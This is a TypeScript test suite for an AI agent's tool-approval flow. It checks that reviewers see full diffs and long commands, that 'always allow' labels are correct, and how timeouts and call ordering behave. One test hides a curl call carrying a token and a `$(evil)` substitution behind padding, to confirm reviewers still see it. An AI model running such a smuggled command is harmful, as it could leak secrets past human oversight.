import assert from "node:assert/strict";
import { describe, it } from "node:test";

import { call, read } from "../../../test/agent/call-tools.ts";
import { ALLOW, REJECT } from "../../../test/agent/sample-turn.ts";
import { Offer } from "../../tool/offer/offer.ts";

describe("a person who is to allow a tool call", () => {
  it("sees every line of a change, whatever its size", async () => {
    const lines = Array.from({ length: 8_000 }, (_, index) => `line ${index}`);
    const text = lines.map((line) => `changed ${line}`).join("\n");
    const { turn } = await call(
      [{ name: "write_file", arguments: { path: "big", content: text } }],
      {
        files: { big: lines.join("\n") },
        first: [1, 2001, 4001, 6001].map((line) => read("big", { line })),
      },
    );
    const [diff] = (turn.asked[0]?.toolCall.content ?? []) as {
      newText: string;
      oldText: string;
    }[];
    assert.equal(diff?.newText, text);
    assert.equal(diff?.oldText, lines.join("\n"));
    assert.deepEqual(turn.ends, Array(5).fill("completed"));
  });

  it("sees the whole command, even if it is long or looks like a secret", async () => {
    const filler = "echo hello world; ".repeat(2_000);
    const command = `${filler}curl 'x?token=$(evil)'\necho last`;
    const { turn } = await call([{ name: "run_command", arguments: { command } }], {
      turn: { decide: () => REJECT },
    });
    const [asked] = turn.asked.map(({ toolCall }) => toolCall);
    const { title, content, rawInput } = asked ?? { toolCallId: "" };
    assert.equal(title, command.replace("\n", " ⏎ "));
    assert.deepEqual(rawInput, { command });
    const [shown] = content as { content: { text: string } }[];
    assert.equal(shown?.content.text, `\`\`\`\n${command}\n\`\`\``);
    const [told] = turn.ofKind("tool_call");
    assert.ok(String(told?.title).length <= 301, "what is only told stays small");
  });

  it("sees a command with a megabyte of spaces as soon as another", async () => {
    const command = `true${" ".repeat(1_000_000)}#  \n  x`;
    const { turn } = await call([{ name: "run_command", arguments: { command } }], {
      turn: { decide: () => REJECT },
    });
    assert.equal(turn.asked[0]?.toolCall.title, command.replace("  \n  ", " ⏎ "));
  });

  it("reads in the label of 'always' what it covers, and in which folder", async () => {
    const run = (cwd: string) => ({ name: "run_command", arguments: { command: "true", cwd } });
    const edit = { name: "write_file", arguments: { path: "a", content: "x" } };
    const commit = { name: "git_commit", arguments: { message: "m" } };
    const { turn } = await call([run("."), run("sub"), edit, commit], {
      files: { "sub/x": "" },
      check: (rig, { turn: { asked } }) => {
        const always = asked.map(({ options }) =>
          options.find(({ optionId }) => optionId === "always"),
        );
        assert.deepEqual(
          always.map((option) => option?.name),
          [
            `Always allow in ${rig.cwd}: exactly this command`,
            `Always allow in ${rig.cwd}: exactly this command in sub`,
            `Always allow in ${rig.cwd}: every change of a file`,
            `Always allow in ${rig.cwd}: every git commit, of any files and with any message`,
          ],
        );
      },
    });
    assert.deepEqual(
      turn.asked.map(({ subject }) => subject),
      [
        { action: "run", command: "true", folder: ".", sandbox: "none" },
        { action: "run", command: "true", folder: "sub", sandbox: "none" },
        { action: "edit" },
        { action: "commit", programs: "" },
      ],
    );
    assert.match(JSON.stringify(turn.asked[1]?.toolCall.content), /In sub:/);
    assert.match(JSON.stringify(turn.asked[3]?.toolCall.content), /m\\n\\nWhat is staged/);
  });
});

describe("a tool that takes too long", () => {
  it("is stopped with the code of the specification; time for a person's answer does not count", async () => {
    const offer = new Offer();
    const definition = { name: "slow", inputSchema: { type: "object" } };
    const waits = Promise.withResolvers<never>();
    offer.tools.add({ definition, call: () => waits.promise, timeout: 50 });
    const write = { name: "write_file", arguments: { path: "a", content: "x" } };
    const { answers, turn } = await call([{ name: "slow", arguments: {} }, write], {
      offer: async () => offer,
      limits: { toolTimeout: 1_000 },
      turn: {
        decide: async ({ toolCall }) => {
          if (toolCall.title === "Create a")
            await new Promise((resolve) => setTimeout(resolve, 1_200));
          return ALLOW;
        },
      },
    });
    assert.match(answers[0] ?? "", /took over 50 ms without progress/);
    assert.deepEqual(turn.ends, ["failed", "completed"]);
  });

  it("is stopped as well if it is our own", async () => {
    const fs = { readTextFile: () => new Promise<never>(() => {}) };
    const { codes, answers } = await call([read("a")], {
      files: { a: "a" },
      limits: { toolTimeout: 100 },
      turn: { client: { fs } },
    });
    assert.deepEqual(codes, [-31802]);
    assert.match(answers[0] ?? "", /took longer than 0 s/);
  });
});

describe("the calls of one answer", () => {
  it("run together if they only read, and wait for each other if not", async () => {
    const order: string[] = [];
    const three = Promise.withResolvers<void>();
    let readers = 0;
    const fs = {
      readTextFile: async (path: string) => {
        const name = path.slice(-1);
        order.push(`read ${name}`);
        // Each reader ends only when all three have begun.
        if ("abc".includes(name) && (readers += 1) === 3) three.resolve();
        await three.promise;
        order.push(`has ${name}`);
        return `text of ${name}`;
      },
      writeTextFile: async (path: string) => void order.push(`write ${path.slice(-1)}`),
    };
    const edit = { path: "d", old_string: "text of d", new_string: "new" };
    const write = { name: "edit_file", arguments: edit };
    const calls = [read("a"), read("b"), read("c"), write, read("e")];
    const { answers, turn } = await call(calls, {
      files: { a: "", b: "", c: "", d: "", e: "" },
      limits: { toolTimeout: 20_000 },
      turn: { client: { fs } },
    });
    assert.deepEqual(turn.ends, Array(5).fill("completed"));
    assert.deepEqual(order.slice(0, 3).toSorted(), ["read a", "read b", "read c"]);
    assert.ok(order.indexOf("write d") > order.indexOf("has c"), "the edit waits for the readers");
    assert.ok(
      order.indexOf("read e") > order.indexOf("write d"),
      "the next one waits for the edit",
    );
    const texts = answers.map((answer) => /text of \w|Changed/.exec(answer)?.[0]);
    assert.deepEqual(texts, ["text of a", "text of b", "text of c", "Changed", "text of e"]);
  });
});
